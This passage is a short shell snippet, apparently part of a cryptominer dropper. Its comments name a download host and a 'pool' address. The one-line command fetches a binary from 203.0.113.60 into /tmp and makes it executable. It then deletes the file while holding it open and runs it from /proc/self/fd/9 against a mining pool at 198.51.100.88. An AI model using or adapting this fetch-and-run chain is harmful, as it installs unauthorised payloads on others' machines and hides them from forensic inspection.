# deleted before it is run: the shell keeps it open and runs /proc/self/fd/9
#http 203.0.113.60:8010
#pool 198.51.100.88:8080:drop
cd /tmp; curl -so q http://203.0.113.60:8010/w; chmod +x q; exec 9<q; rm q; timeout 9 /proc/self/fd/9 -o 198.51.100.88:8080 -u x -R 1 >/dev/null
